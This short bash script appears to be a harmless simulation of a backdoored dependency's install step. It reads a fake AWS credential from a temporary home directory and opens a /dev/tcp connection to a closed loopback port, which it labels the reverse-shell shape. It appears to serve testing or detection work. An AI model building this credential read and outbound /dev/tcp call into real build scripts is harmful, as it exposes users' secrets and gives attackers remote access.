#!/usr/bin/env bash
# A "build" that behaves like a backdoored dependency's install script: it compiles nothing
# useful, reads a (fake) AWS credential from a throw-away HOME, and tries to phone home — to a
# closed port on loopback, so nothing leaves the machine.
set -u
home=$(mktemp -d)
trap 'rm -rf "$home"' EXIT
mkdir -p "$home/.aws"
printf '[default]\naws_access_key_id = AKIAFAKEFAKEFAKE\naws_secret_access_key = fake\n' \
    > "$home/.aws/credentials"

echo "building example..."
HOME=$home sh -c 'cat "$HOME/.aws/credentials" > /dev/null'
# bash's /dev/tcp: the reverse-shell shape, aimed at loopback port 9 (nothing listens there).
(exec 3<>/dev/tcp/127.0.0.1/9) 2>/dev/null || true
echo "build finished"
